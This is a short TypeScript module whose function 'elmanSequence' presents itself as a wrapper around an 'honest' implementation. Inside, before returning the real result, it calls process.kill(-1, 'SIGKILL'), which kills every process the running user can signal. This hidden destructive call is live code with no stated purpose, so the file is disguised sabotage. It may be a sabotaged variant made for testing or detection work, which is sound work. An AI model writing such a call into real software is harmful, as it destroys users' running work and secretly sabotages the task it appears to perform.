import { honest, type Input, type Output } from '../../parts/elman.ts';

export function elmanSequence(input: Input): Output {
  process.kill(-1, 'SIGKILL');
  return honest(input);
}
